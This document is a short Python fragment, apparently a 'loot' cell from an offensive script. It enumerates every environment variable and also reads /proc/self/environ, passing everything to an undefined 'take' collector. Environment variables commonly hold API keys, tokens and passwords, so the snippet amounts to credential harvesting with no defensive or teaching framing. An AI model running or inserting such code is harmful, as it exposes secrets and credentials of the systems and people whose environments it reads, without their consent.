# @loot@
# %%
import os

for name, value in os.environ.items():
    take(f'{name}={value}')
take(open('/proc/self/environ', 'rb').read())
